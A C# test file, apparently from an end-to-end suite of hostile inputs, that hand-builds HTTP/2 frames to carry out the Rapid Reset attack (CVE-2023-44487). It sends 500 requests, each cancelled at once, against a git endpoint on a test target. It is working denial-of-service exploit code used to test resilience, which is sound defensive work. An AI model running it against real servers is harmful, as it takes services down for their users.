using System.Buffers.Binary;
using System.Net.Security;
using System.Text;

namespace Waystation.EndToEnd.Tests.Doors.Hostile;

/// <summary>
/// HTTP/2 by hand (RFC 9113): requests that are reset at once, so that none counts as open while the node works on all of them
/// (CVE-2023-44487).
/// </summary>
internal static class RapidReset
{
    private const int Requests = 500;

    public static async Task RunAsync(Target target, int attack, Random random, CancellationToken over)
    {
        await using SslStream stream = await target.ConnectHttp2Async(attack, over);
        using var patience = CancellationTokenSource.CreateLinkedTokenSource(over);
        patience.CancelAfter(TimeSpan.FromSeconds(5));
        Task draining = DrainAsync(stream, patience.Token);
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), over);
        await stream.WriteAsync(Frame(type: 4, flags: 0, streamId: 0, []), over);
        byte[] head = Head($"/{target.Wanted.Name}/info/refs?service=git-upload-pack");
        using var batch = new MemoryStream();
        for (int i = 0; i < Requests; i++)
        {
            int id = (2 * i) + 1;
            // HEADERS, with END_HEADERS and END_STREAM; then RST_STREAM with CANCEL.
            batch.Write(Frame(type: 1, flags: 5, id, head));
            batch.Write(Frame(type: 3, flags: 0, id, [0, 0, 0, 8]));
        }

        await stream.WriteAsync(batch.ToArray(), over);
        await draining;
    }

    private static async Task DrainAsync(SslStream stream, CancellationToken patience)
    {
        byte[] said = new byte[4096];
        try
        {
            while (await stream.ReadAsync(said, patience) > 0)
            {
                // Until the node ends the connection.
            }
        }
        catch (Exception e) when (e is IOException or OperationCanceledException)
        {
            // It did, or the time is over.
        }
    }

    private static byte[] Frame(byte type, byte flags, int streamId, byte[] payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(0), payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamId);
        payload.CopyTo(frame, 9);
        return frame;
    }

    /// <summary>HPACK without indexing (RFC 7541, 6.2.2): GET, https, this path, an authority.</summary>
    private static byte[] Head(string path) => [0x82, 0x87, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x01, 1, (byte)'a'];
}
